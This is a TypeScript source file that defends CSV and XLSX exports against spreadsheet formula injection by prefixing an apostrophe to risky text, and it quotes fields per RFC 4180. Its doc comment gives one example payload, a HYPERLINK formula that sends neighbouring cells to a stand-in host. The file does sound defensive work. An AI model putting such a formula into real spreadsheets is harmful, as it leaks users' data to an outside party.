/**
 * Cells of every CSV and XLSX file the product writes (open data, queue exports, reports), made safe
 * to open in a spreadsheet. A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
 * read by Excel, LibreOffice Calc or Google Sheets as a formula: a kindergarten named
 * `=HYPERLINK("https://evil.example/?"&A2,"click")` would send the neighbouring cells away, and DDE
 * formulas can start programs. As OWASP advises ("CSV Injection"), such a text gets a leading
 * apostrophe, which spreadsheets take as "this is text". Only text is touched: a number (−5, a
 * share) is a typed value and stays a number, so sums and charts keep working.
 */
export type SpreadsheetValue = string | number | boolean | null;

const FORMULA_START = /^[=+\-@\t\r]/;

/** The text as a spreadsheet may show it: prefixed with `'` when it would start a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** An XLSX cell's value: text neutralised; numbers, booleans and empty cells as they are. */
export function spreadsheetValue(value: SpreadsheetValue | undefined): SpreadsheetValue {
  if (value === undefined) return null;
  return typeof value === 'string' ? neutraliseFormula(value) : value;
}

/**
 * One CSV field (RFC 4180): text neutralised, then quoted when it holds the separator, a quote, CR or
 * LF, quotes doubled. Numbers are written plainly, booleans as true/false, null as an empty field.
 */
export function csvField(value: SpreadsheetValue | undefined, separator: ',' | ';' = ','): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'string' ? neutraliseFormula(value) : String(value);
  const needsQuotes = text.includes(separator) || /["\r\n]/.test(text);
  return needsQuotes ? `"${text.replace(/"/g, '""')}"` : text;
}
